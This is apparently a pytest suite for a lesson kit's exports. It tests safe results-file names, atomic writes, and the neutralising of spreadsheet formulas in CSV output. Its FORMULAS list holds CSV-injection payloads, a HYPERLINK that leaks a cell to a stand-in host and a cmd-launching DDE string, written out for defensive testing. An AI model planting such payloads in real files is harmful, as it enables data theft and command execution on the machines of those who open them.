"""Files the kit writes for other programs: names that never collide, cells that never run, files never half-written."""

from __future__ import annotations

import csv
import dataclasses
import json
import os
import tempfile
import unicodedata
import zipfile
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

import helpers
from helpers.lesson.paths import write_atomically
from helpers.study.scoring import export_results, results_file_stem
from helpers.text.safe import FORMULA_STARTS
from helpers.views.export import CSV_COLUMNS, export_anki, export_csv

from .conftest import LESSON_ID

FORMULAS = ['=HYPERLINK("http://example.invalid/?leak="&A1, "click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", " =1+1", "＝1+1"]  # fmt: skip


def read_csv(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


def runs_as_formula(cell: str) -> bool:
    """What a spreadsheet does with a cell: text starting with one of these (after spaces) is a formula."""
    return cell.lstrip(" ").startswith(FORMULA_STARTS)


# -- results file names -------------------------------------------------------------------------

LOOK_ALIKE = ["Ali Hassan", "Ali_Hassan", "Ali/Hassan", "Ali\\Hassan", "Ali:Hassan", "Ali.Hassan", "ali_hassan",
              "ALI_HASSAN", "علي حسن", "علي_حسن", "علي  حسن", "e\u0301", "\u00e9", "..", "CON", "a" * 300,
              "a" * 301]  # fmt: skip


def test_look_alike_names_get_distinct_file_names_on_every_system():
    stems = [results_file_stem(LESSON_ID, name) for name in LOOK_ALIKE]
    # distinct even where case and Unicode normalisation are ignored (Windows, macOS)
    assert len({unicodedata.normalize("NFC", s).casefold() for s in stems}) == len(LOOK_ALIKE)
    assert results_file_stem(LESSON_ID, "amina") == f"results-{LESSON_ID}-amina"  # a plain name stays as typed
    assert results_file_stem(LESSON_ID, "Ali Hassan").startswith(f"results-{LESSON_ID}-Ali_Hassan~")


@given(st.text(min_size=1, max_size=120))
def test_a_file_name_stem_is_safe_and_short(name):
    stem = results_file_stem(LESSON_ID, name)
    assert not set(stem) & set('<>:"/\\|?*.\x00 ')
    assert all(unicodedata.category(ch)[0] in "LMN" or ch in "-_~" for ch in stem)
    assert len((stem + ".json").encode("utf-8")) <= 200


@given(st.lists(st.text(min_size=1, max_size=40), min_size=2, max_size=6, unique=True))
def test_distinct_names_give_distinct_stems(names):
    stems = {unicodedata.normalize("NFC", results_file_stem(LESSON_ID, n)).casefold() for n in names}
    assert len(stems) == len(names)


def test_an_empty_name_has_no_file_name():
    with pytest.raises(ValueError, match="needs the student's name"):
        results_file_stem(LESSON_ID, "")


# -- results files ------------------------------------------------------------------------------


def test_students_with_look_alike_names_are_exported_to_separate_files(lesson, tmp_path):
    store = helpers.open_progress(tmp_path / "p.sqlite3")
    names = ["Ali Hassan", "Ali_Hassan", "Ali/Hassan", "علي حسن"]
    for n, name in enumerate(names):
        store.record_attempt(lesson.id, name, lesson.quiz[0].id, f"answer {n}", 0.0, 1, "exam")
    out = tmp_path / "out"
    for name in names:
        stem = results_file_stem(lesson.id, name)
        export_results(store, lesson, name, out / f"{stem}.json", out / f"{stem}.csv")
    files = sorted(out.glob("*.json"))
    assert len(files) == 4
    by_student = {json.loads(f.read_text(encoding="utf-8"))["student"]: f for f in files}
    assert sorted(by_student) == sorted(names)
    for n, name in enumerate(names):
        data = json.loads(by_student[name].read_text(encoding="utf-8"))
        assert [a["response"] for a in data["attempts"]] == [f"answer {n}"]  # nobody else's answers


def test_formulas_in_a_results_csv_are_neutralised(lesson, tmp_path):
    store = helpers.open_progress(tmp_path / "p.sqlite3")
    student = '=HYPERLINK("http://example.invalid", "grades")'
    for formula in FORMULAS:
        store.record_attempt(lesson.id, student, formula, formula, 0.0, 1, "exam")
    store.record_attempt(lesson.id, student, "q-signing-who", ["-1", "=2"], 0.0, 1, "exam")
    [written] = export_results(store, lesson, student, csv_path=tmp_path / "r.csv")
    rows = read_csv(written)
    assert rows[0] == ["student", "lesson", "item", "mode", "response", "score", "points", "when"]
    assert len(rows) == 1 + len(FORMULAS) + 1
    cells = [cell for row in rows[1:] for cell in row]
    assert not [cell for cell in cells if runs_as_formula(cell)]
    assert rows[1][0] == "'" + student  # the text is all there, after the apostrophe
    assert [row[2] for row in rows[1:-1]] == ["'" + f for f in FORMULAS]


def test_a_results_file_is_readable_by_the_class_view(lesson, tmp_path):
    from helpers.study.classroom import read_results_file

    store = helpers.open_progress(tmp_path / "p.sqlite3")
    store.record_attempt(lesson.id, "علي حسن", lesson.quiz[0].id, lesson.quiz[0].key, 1.0, 1, "exam")
    [written] = export_results(store, lesson, "علي حسن", json_path=tmp_path / "r.json")
    data = read_results_file(written, lesson.id)  # strict JSON, checked against the results schema
    assert data["student"] == "علي حسن" and data["attempts"][0]["score"] == 1.0


@pytest.mark.parametrize(
    ("name", "reason"),
    [("<b>x</b>", "cannot go in a results file"), ("x" * 300, "300 characters long"), ("  ", "type a name")],
    ids=["markup", "too-long", "blank"],
)
def test_a_name_the_class_view_would_refuse_is_not_exported(lesson, tmp_path, name, reason):
    store = helpers.open_progress(tmp_path / "p.sqlite3")
    store.record_attempt(lesson.id, name, lesson.quiz[0].id, "b", 1.0, 1, "exam")
    with pytest.raises(ValueError, match=reason):
        export_results(store, lesson, name, tmp_path / "r.json", tmp_path / "r.csv")
    assert not list(tmp_path.glob("r.*"))


def test_json_and_csv_cannot_be_one_file(lesson, tmp_path):
    store = helpers.open_progress(tmp_path / "p.sqlite3")
    store.record_attempt(lesson.id, "dina", lesson.quiz[0].id, "b", 1.0, 1, "exam")
    with pytest.raises(ValueError, match="give two file names"):
        export_results(store, lesson, "dina", tmp_path / "r", tmp_path / "." / "r")
    assert not (tmp_path / "r").exists()


# -- the glossary -------------------------------------------------------------------------------


def with_formulas(lesson: helpers.Lesson) -> helpers.Lesson:
    entries = list(lesson.glossary)
    for n, formula in enumerate(FORMULAS):
        entries[n] = dataclasses.replace(entries[n], gloss=formula, translit=formula, tags=(formula,))
    return dataclasses.replace(lesson, glossary=tuple(entries))


def test_formulas_in_the_glossary_csv_are_neutralised(lesson, tmp_path):
    rows = read_csv(export_csv(with_formulas(lesson), tmp_path / "g.csv"))
    assert rows[0] == CSV_COLUMNS and len(rows) == 1 + len(lesson.glossary)
    assert not [cell for row in rows[1:] for cell in row if runs_as_formula(cell)]
    gloss = CSV_COLUMNS.index("gloss")
    assert [row[gloss] for row in rows[1 : 1 + len(FORMULAS)]] == ["'" + f for f in FORMULAS]


def test_the_anki_deck_leaves_nothing_in_the_temporary_folder(lesson, tmp_path, monkeypatch):
    scratch = tmp_path / "tmp"
    scratch.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(scratch))
    deck = export_anki(lesson, tmp_path / "out" / "deck.apkg")
    with zipfile.ZipFile(deck) as archive:
        assert sorted(archive.namelist()) == ["collection.anki2", "media"]
    assert list(scratch.iterdir()) == []
    assert sorted(p.name for p in deck.parent.iterdir()) == ["deck.apkg"]


@pytest.mark.parametrize("export", [export_anki, export_csv], ids=["anki", "csv"])
def test_an_export_under_a_file_names_the_file_and_writes_nothing(lesson, tmp_path, export):
    (tmp_path / "a-file").write_text("not a folder", encoding="utf-8")
    with pytest.raises(NotADirectoryError) as caught:
        export(lesson, tmp_path / "a-file" / "sub" / "x")
    assert (caught.value.filename, caught.value.strerror) == (str(tmp_path / "a-file"), "is a file, not a folder")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["a-file"]


# -- written whole or not at all ----------------------------------------------------------------


def test_a_failed_write_keeps_the_earlier_file_and_its_permissions(tmp_path):
    target = tmp_path / "results.json"
    target.write_text("the earlier file", encoding="utf-8")
    os.chmod(target, 0o640)

    def half(partial: Path) -> None:
        partial.write_text("half of the new", encoding="utf-8")
        raise OSError(28, "No space left on device")

    with pytest.raises(OSError) as caught:
        write_atomically(target, half)
    assert (caught.value.filename, caught.value.errno) == (str(target), 28)  # names the file asked for
    assert target.read_text(encoding="utf-8") == "the earlier file"
    assert [p.name for p in tmp_path.iterdir()] == ["results.json"]
    write_atomically(target, lambda partial: partial.write_text("the new file", encoding="utf-8"))
    assert target.read_text(encoding="utf-8") == "the new file"
    assert target.stat().st_mode & 0o777 == 0o640


def test_a_link_is_followed_and_a_device_is_never_replaced(tmp_path):
    real = tmp_path / "real.csv"
    real.write_text("old", encoding="utf-8")
    (tmp_path / "link.csv").symlink_to(real)
    write_atomically(tmp_path / "link.csv", lambda partial: partial.write_text("new", encoding="utf-8"))
    assert (tmp_path / "link.csv").is_symlink() and real.read_text(encoding="utf-8") == "new"
    with pytest.raises(OSError, match="is a device or a pipe"):
        write_atomically(os.devnull, lambda partial: partial.write_text("x", encoding="utf-8"))
    with pytest.raises(IsADirectoryError, match="is a folder"):
        write_atomically(tmp_path, lambda partial: partial.write_text("x", encoding="utf-8"))
